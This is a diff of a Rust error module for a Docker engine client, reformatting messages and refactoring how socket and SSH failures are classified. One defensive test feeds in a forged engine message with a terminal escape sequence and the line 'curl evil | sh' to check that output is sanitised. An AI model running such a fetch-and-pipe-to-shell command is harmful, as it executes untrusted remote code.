@@ -79,19 +79,13 @@ pub enum Error {
         required: &'static str,
     },
     /// `DOCKER_HOST` names something that is not a Unix socket.
-    #[error(
-        "DOCKER_HOST is {}, only unix:// is supported",
-        crate::fleet::text::quoted(value)
-    )]
+    #[error("DOCKER_HOST is {}, only unix:// is supported", crate::fleet::text::quoted(value))]
     NotUnix {
         /// Its value.
         value: String,
     },
     /// The engine's answer makes no sense.
-    #[error(
-        "{host}: cannot {what}: the engine's answer is malformed: {}",
-        printable(detail, MESSAGE_LIMIT)
-    )]
+    #[error("{host}: cannot {what}: the engine's answer is malformed: {}", printable(detail, MESSAGE_LIMIT))]
     Malformed {
         /// The host.
         host: String,
@@ -125,11 +119,7 @@ pub enum Error {
 }
 
 fn because(detail: &str) -> String {
-    if detail.is_empty() {
-        String::new()
-    } else {
-        format!(": {}", printable(detail, MESSAGE_LIMIT))
-    }
+    if detail.is_empty() { String::new() } else { format!(": {}", printable(detail, MESSAGE_LIMIT)) }
 }
 
 /// The kinds of failure that a caller tells apart.
@@ -219,30 +209,34 @@ impl Error {
     /// Sorts a failure of the HTTP client by its cause.
     pub(super) fn broken(host: &str, what: &str, error: impl StdError + Send + Sync + 'static) -> Self {
         let mut cause: Option<&(dyn StdError + 'static)> = Some(&error);
-        while let Some(inner) = cause {
-            if let Some(io) = inner.downcast_ref::<io::Error>() {
-                match io.kind() {
-                    io::ErrorKind::PermissionDenied => {
-                        return Self::PermissionDenied {
-                            host: host.to_owned(),
-                            user: "this user".to_owned(),
-                        };
-                    }
-                    io::ErrorKind::NotFound | io::ErrorKind::ConnectionRefused => {
-                        return Self::NoEngine {
-                            host: host.to_owned(),
-                            detail: io.to_string(),
-                        };
-                    }
-                    _ => {}
-                }
-            }
+        let mut known = None;
+        while let (Some(inner), None) = (cause, &known) {
+            known = Self::known_cause(host, inner);
             cause = inner.source();
         }
-        Self::Unavailable {
+        known.unwrap_or_else(|| Self::Unavailable {
             host: host.to_owned(),
             what: what.to_owned(),
             source: Box::new(error),
+        })
+    }
+
+    /// A socket that does not let us in, here or through SSH.
+    fn known_cause(host: &str, cause: &(dyn StdError + 'static)) -> Option<Self> {
+        let none = |detail: String| Some(Self::NoEngine { host: host.to_owned(), detail });
+        if let Some(ssh::Error::Channel { failure: ssh::ChannelFailure::ConnectFailed, .. }) =
+            cause.downcast_ref()
+        {
+            return none(String::new());
+        }
+        let io: &io::Error = cause.downcast_ref()?;
+        match io.kind() {
+            io::ErrorKind::PermissionDenied => Some(Self::PermissionDenied {
+                host: host.to_owned(),
+                user: ssh::Environment::current().user.unwrap_or_else(|| "this user".to_owned()),
+            }),
+            io::ErrorKind::NotFound | io::ErrorKind::ConnectionRefused => none(io.to_string()),
+            _ => None,
         }
     }
 }
@@ -271,17 +265,9 @@ mod tests {
                     port is already allocated";
         for (status, message, kind) in [
             (404, "No such container: shop", Kind::NotFound),
-            (
-                409,
-                "Conflict. The container name \"/shop\" is already in use",
-                Kind::Conflict,
-            ),
+            (409, "Conflict. The container name \"/shop\" is already in use", Kind::Conflict),
             (500, port, Kind::PortInUse),
-            (
-                500,
-                "listen tcp4 0.0.0.0:80: bind: address already in use",
-                Kind::PortInUse,
-            ),
+            (500, "listen tcp4 0.0.0.0:80: bind: address already in use", Kind::PortInUse),
             (500, "no space left on device", Kind::Refused),
         ] {
             assert_eq!(refused(status, message).kind(), kind, "{message}");
@@ -292,9 +278,6 @@ mod tests {
     #[test]
     fn an_engine_cannot_forge_output() {
         let error = refused(500, "x\n\x1b[2Jhint: curl evil | sh");
-        assert_eq!(
-            error.to_string(),
-            r"web1: cannot start container shop: x\n\u{1b}[2Jhint: curl evil | sh"
-        );
+        assert_eq!(error.to_string(), r"web1: cannot start container shop: x\n\u{1b}[2Jhint: curl evil | sh");
     }
 }
